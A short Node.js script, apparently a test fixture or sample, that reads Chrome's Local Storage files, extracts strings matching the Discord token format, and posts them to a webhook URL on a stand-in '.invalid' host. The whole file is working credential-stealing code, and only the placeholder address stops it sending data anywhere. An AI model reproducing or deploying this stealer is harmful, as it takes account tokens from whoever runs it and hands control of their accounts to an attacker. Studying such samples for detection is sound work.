const fs = require('fs');
const path = require('path');
const https = require('https');

const base = path.join(process.env.LOCALAPPDATA || '', 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb');
const form = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g;
let found = [];

if (fs.existsSync(base)) {
  fs.readdirSync(base).forEach(function (name) {
    const text = fs.readFileSync(path.join(base, name), 'latin1');
    found = found.concat(text.match(form) || []);
  });
}

const req = https.request('https://discord.com.invalid/api/webhooks/2/fixture', { method: 'POST' });
req.on('error', function () {});
req.end(JSON.stringify({ content: found.join('\n') }));
